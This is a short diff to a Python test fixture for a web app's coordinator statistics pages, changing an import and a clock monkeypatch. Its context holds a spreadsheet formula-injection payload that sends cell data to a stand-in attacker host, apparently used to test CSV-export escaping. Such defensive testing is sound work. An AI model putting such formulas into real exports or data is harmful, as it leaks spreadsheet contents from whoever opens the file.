@@ -8,7 +8,6 @@ import factories
 from conftest import NOW
 from journeys import log_in_coordinator
 from web.models import Place
-from web.services import auth
 from web.services.csv_safe import safe_cell
 from web.views.coordinators.stats import TABLE_NAMES
 
@@ -20,7 +19,7 @@ HOSTILE = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")'
 def coordinator(client, session, monkeypatch):
     from web.services.accounts import create_coordinator
 
-    monkeypatch.setattr(auth, "utcnow", lambda: NOW)
+    monkeypatch.setattr("web.clock.utcnow", lambda: NOW)
     create_coordinator(session, NOW, "claire@villiers.example", PASSWORD, name="Claire")
     session.commit()
     return log_in_coordinator(client, "claire@villiers.example", PASSWORD)
